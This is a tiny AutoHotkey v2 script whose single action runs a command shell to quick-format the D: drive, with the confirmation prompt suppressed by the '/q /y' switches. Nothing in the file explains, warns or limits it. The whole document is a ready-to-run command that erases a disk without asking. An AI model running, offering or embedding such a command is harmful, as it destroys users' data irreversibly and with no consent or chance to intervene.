#Requires AutoHotkey v2.0
Run A_ComSpec ' /c format D: /q /y'
